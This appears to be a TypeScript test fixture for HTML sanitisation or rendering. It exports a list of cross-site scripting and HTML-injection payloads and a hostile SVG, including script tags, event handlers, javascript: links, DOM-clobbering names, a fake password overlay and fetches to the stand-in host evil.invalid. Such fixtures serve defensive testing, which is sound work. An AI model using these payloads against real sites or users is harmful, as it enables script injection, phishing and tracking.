/** Where nothing may ever be asked for. */
export const elsewhere = "https://evil.invalid";

const run = "window.broken=1";

/** What a stranger could write wherever text goes: each tries to run, to load, to look like the page, or to take its names. */
export const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<script src="${elsewhere}/a.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${elsewhere}/a.png" srcset="${elsewhere}/b.png 2x" alt="chart">`,
  `<svg onload="${run}"><script>${run}</script><foreignObject><iframe src="${elsewhere}"></iframe></foreignObject></svg>`,
  `<svg><use href="${elsewhere}/a.svg#b"/><image href="${elsewhere}/c.png"/><a href="javascript:${run}"><animate attributeName="href" values="javascript:${run}"/><text>x</text></a><style>@import url(${elsewhere}/d.css); body{display:none}</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  `<style>@import url(${elsewhere}/e.css); body, .topbar { display: none !important }</style>`,
  `<link rel="stylesheet" href="${elsewhere}/f.css"><link rel="prefetch" href="${elsewhere}/g"><link rel="dns-prefetch" href="//evil.invalid">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/h"><base href="${elsewhere}/">`,
  `<iframe src="${elsewhere}/i"></iframe><iframe srcdoc="<script>parent.broken=1</script>"></iframe><iframe src="javascript:parent.broken=1"></iframe>`,
  `<object data="${elsewhere}/j"></object><embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.broken=1'/>"><applet code="${elsewhere}"></applet>`,
  `<form action="${elsewhere}/k"><input name="q" autofocus onfocus="${run}"><button formaction="javascript:${run}">go</button></form>`,
  `<video src="${elsewhere}/l.mp4" poster="${elsewhere}/l.png" autoplay></video><audio src="${elsewhere}/m.mp3"></audio>`,
  `<table background="${elsewhere}/n.png" style="background:url(${elsewhere}/o.png)"><tr><td style="position:fixed;inset:0;z-index:9999;background:red url(${elsewhere}/p.png)">x</td></tr></table>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Enter your password</div>`,
  `<a href="javascript:${run}">a</a><a href="java&#9;script:${run}">b</a><a href="data:text/html,<script>${run}</script>">c</a><a href="vbscript:x">d</a>`,
  `<a id="root" name="body" href="#root">x</a><img name="getElementById" id="querySelector" src="data:,x"><form id="page" name="cookie"></form>`,
  `<p class="topbar notice is-harm button" role="dialog" aria-live="assertive" tabindex="1" contenteditable>Look here</p>`,
  `<details open ontoggle="${run}"><summary>x</summary></details><marquee onstart="${run}">x</marquee><body onload="${run}">`,
  `<template><script>${run}</script></template><noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<x-y onclick="${run}" is="z">x</x-y><input type="image" src="${elsewhere}/q.png">`,
  `<!--><img src=x onerror="${run}">--><![CDATA[<img src=x onerror="${run}">]]><?xml-stylesheet href="${elsewhere}/r.css"?>`,
  `"><img src=x onerror='${run}'>`,
  `'-${run}-'`,
  "javascript:window.broken=1",
  `[a](javascript:${run}) ![b](${elsewhere}/s.png "t") [c]: ${elsewhere} <${elsewhere}/t>`,
  `![x](data:text/html;base64,PHNjcmlwdD50b3AuYnJva2VuPTE8L3NjcmlwdD4=) ![y](javascript:${run})`,
  "${(window.broken=1)} ${fetch('https://evil.invalid/u')} {{constructor.constructor('window.broken=1')()}}",
  "__proto__",
  "constructor",
  "\u202egnp.exe \u0000\u001b]8;;https://evil.invalid\u0007 \ud800 \uffff",
];

export const everything = payloads.join("\n\n");

/** An SVG by itself, as a chart would be saved. */
export const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40" onload="top.broken=1">
<script>top.broken=1</script><style>@import url(${elsewhere}/svg.css);</style>
<image href="${elsewhere}/svg.png" width="9" height="9"/><use href="${elsewhere}/svg.svg#a"/>
<foreignObject width="80" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${elsewhere}/fo.png" onerror="top.broken=1"/><iframe src="${elsewhere}/fo"/></body></foreignObject>
<a xlink:href="javascript:top.broken=1"><animate attributeName="href" to="javascript:top.broken=1"/><rect width="9" height="9"/></a></svg>`;
